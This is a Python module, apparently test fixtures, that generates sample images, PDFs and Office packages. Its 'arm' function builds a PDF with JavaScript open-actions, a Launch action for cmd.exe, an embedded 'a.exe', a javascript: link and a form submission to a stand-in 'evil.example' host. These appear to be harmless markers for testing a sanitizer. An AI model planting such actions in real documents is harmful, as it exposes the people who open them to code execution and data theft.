"""Small files of every kind, honest and hostile, made when asked for."""

from __future__ import annotations

import io
import zipfile

import pikepdf
import pillow_heif
from pikepdf import Array, Dictionary, Name, Object, String
from PIL import Image

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "application/vnd.openxmlformats-officedocument."
DOCUMENT_TYPE = f"{OFFICE}wordprocessingml.document.main+xml"
WORKBOOK_TYPE = f"{OFFICE}spreadsheetml.sheet.main+xml"


def picture(width: int = 60, height: int = 40, mode: str = "RGB") -> Image.Image:
    """Left half red, right half blue."""
    whole = Image.new("RGB", (width, height), "red")
    whole.paste("blue", (width // 2, 0, width, height))
    return whole.convert(mode)


def image(form: str = "JPEG", *, of: Image.Image | None = None, **options: object) -> bytes:
    out = io.BytesIO()
    (of or picture()).save(out, form, **options)
    return out.getvalue()


def heic(of: Image.Image | None = None, **options: object) -> bytes:
    out = io.BytesIO()
    pillow_heif.from_pillow(of or picture(64, 64)).save(out, quality=80, **options)
    return out.getvalue()


def photograph_with_place(orientation: int = 6) -> bytes:
    """A JPEG lying on its side that says where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif.get_ifd(0x8825).update({1: "N", 2: (35.0, 41.0, 21.0), 3: "E", 4: (51.0, 25.0, 17.0)})
    exif[0x010F] = "SecretCameraMaker"
    return image(exif=exif, icc_profile=b"SecretProfile" * 8, comment=b"SecretComment")


def pdf(pages: int = 1, change=None, **saving: object) -> bytes:
    """A document of empty pages; `change(pdf)` may spoil it before it is saved."""
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page(page_size=(300, 400))
        if change:
            change(document)
        out = io.BytesIO()
        document.save(out, **saving)
        return out.getvalue()


def arm(document: pikepdf.Pdf) -> None:
    """Put one of everything that acts into a document."""
    page, root = document.pages[0], document.Root
    script = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert(1)"))
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    embedded = document.make_indirect(Dictionary(Type=Name.Filespec, EF=Dictionary()))
    root.OpenAction = script
    root.AA = Dictionary(WC=script)
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), script])),
        EmbeddedFiles=Dictionary(Names=Array([String("a.exe"), embedded])),
    )
    root.AcroForm = Dictionary(Fields=Array([]), XFA=String("<xdp/>"))
    root.Collection = Dictionary(View=Name.T)
    page.AA = Dictionary(O=script)
    chained = Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit]), Next=Array([script, launch]))
    page.Annots = Array([
        document.make_indirect(Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary())),
        Dictionary(Subtype=Name.FileAttachment, FS=embedded),
        document.make_indirect(_link(document.make_indirect(launch))),
        _link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        _link(Dictionary(S=Name.URI, URI=String("https://example.ir/guide"))),
        _link(chained),
        _link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))),
    ])  # fmt: skip


def _link(action: Object) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)


def package(parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


def relations(*each: str) -> str:
    return f'<Relationships xmlns="{PACKAGE}/relationships">{"".join(each)}</Relationships>'


def relation(purpose: str, target: str, *, external: bool = False, name: str = "rId9") -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{name}" Type="{R}/{purpose}" Target="{target}"{mode}/>'


def types(*overrides: tuple[str, str]) -> str:
    each = "".join(f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in overrides)
    return f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" ContentType="a/b"/>{each}</Types>'


def docx_parts(body: str = "<w:p><w:r><w:t>سلام</w:t></w:r></w:p>", *more: str) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": types(("word/document.xml", DOCUMENT_TYPE)),
        "_rels/.rels": relations(relation("officeDocument", "word/document.xml")),
        "word/document.xml": f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": relations(*more),
    }


def docx(body: str = "<w:p/>", *more: str, **parts: str | bytes) -> bytes:
    return package({**docx_parts(body, *more), **parts})


def xlsx(*more: str, **parts: str | bytes) -> bytes:
    return package({
        "[Content_Types].xml": types(("xl/workbook.xml", WORKBOOK_TYPE)),
        "_rels/.rels": relations(relation("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": "<workbook/>",
        "xl/_rels/workbook.xml.rels": relations(*more),
        **parts,
    })  # fmt: skip
